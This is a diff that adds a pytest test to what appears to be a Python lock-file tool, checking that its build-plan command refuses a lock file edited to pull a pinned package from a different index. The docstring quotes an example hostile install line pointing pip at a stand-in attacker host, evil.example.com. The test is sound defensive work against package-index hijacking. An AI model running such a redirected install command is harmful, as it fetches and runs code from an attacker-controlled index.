@@ -201,6 +201,18 @@ def test_check_and_install_refuse_a_lock_that_moves_a_package_to_another_index(
     assert len([line for line in err.splitlines() if not line.startswith("hint:")]) == 1
 
 
+def test_build_plan_refuses_a_lock_that_moves_a_package_to_another_index(
+    pinned_lock: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The build script prints an install line with the lock's indexes: from a hostile edit,
+    `pip install --index-url https://evil.example.com/simple ...` for whoever runs it."""
+    assert tripin(capsys, "build-plan", "--target", X86, "-o", "b.sh").code == 0
+    _edit(pinned_lock, EVIL_INDEX)
+    run = tripin(capsys, "build-plan", "--target", X86, "-o", "b2.sh")
+    assert run.code == 2 and "refusing to write a build plan: mypriv is pinned to index 'internal'" in run.err
+    assert not (pinned_lock.parent / "b2.sh").exists()
+
+
 @pytest.mark.parametrize(
     ("index", "problem"),
     [
